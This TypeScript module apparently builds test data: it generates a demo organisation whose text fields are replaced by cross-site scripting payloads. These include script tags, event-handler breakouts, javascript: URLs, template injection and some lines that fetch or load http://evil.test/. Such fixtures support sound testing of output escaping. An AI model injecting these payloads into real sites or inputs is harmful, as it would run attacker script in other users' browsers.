/** Records whose every text is written to be run. */
import { type DemoRecord, generate, kelp, profiles, type Scene } from '@rockpool/demo-data';

export const hostile = { id: 'hostile-waters', name: 'Hostile Waters' } as const;

/** Who signs in there. */
export const witness = 'Eve Witness';

/** What a payload does when it runs; tests look for it. */
const deeds = ['__ran()', 'top.__ran()', 'self[`__ran`]()', 'fetch(`http://evil.test/`)', 'alert(1)'];
const urls = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,<script>', 'vbscript:'];
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'OnErRoR'];
const elements = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe', 'marquee'];
const shapes: readonly ((deed: string, event: string, element: string, url: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</title></textarea></style></script><script>${deed}</script>`,
  (deed, event, element) => `<${element} ${event}=${deed}>`,
  (deed, event, element) => `"><${element} ${event}="${deed}">`,
  (deed, event, element) => `'><${element}/${event}='${deed}'>`,
  (deed, event) => `" ${event}="${deed}" x="`,
  (deed, _event, _element, url) => `<a href="${url}${deed}">x</a>`,
  (deed, _event, _element, url) => `[x](${url}${deed})`,
  (deed, _event, _element, url) => `${url}${deed}`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<style>@import 'http://evil.test/';</style><link rel=stylesheet href=http://evil.test/ onload=${deed}>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
];

/** 15 shapes by 5 deeds by 8 events by 8 elements, in an order that meets all shapes soon. */
function payload(i: number): string {
  const at = <T>(items: readonly T[], step: number): T => items[Math.floor(i / step) % items.length] as T;
  return at(shapes, 1)(at(deeds, 3), at(events, 5), at(elements, 7), at(urls, 11));
}

const texts = ['name', 'notes', 'subject', 'title', 'description', 'text'];

/** An organisation like another, with payloads in place of its texts. */
export function* hostileRecords(scene: Omit<Scene, 'organisation'>): Generator<DemoRecord> {
  let [next, users] = [0, 0];
  for (const { collection, body } of generate({ ...scene, organisation: kelp.id }, profiles.XS)) {
    const changed: Record<string, unknown> = { ...body };
    const isUser = changed['kind'] === 'user';
    for (const field of isUser ? ['name'] : texts) {
      if (typeof changed[field] !== 'string' || changed[field] === '') continue;
      changed[field] = isUser ? (users++ === 0 ? witness : `Eve ${users}`) : payload(next++);
    }
    yield { collection, body: changed } as DemoRecord;
  }
}
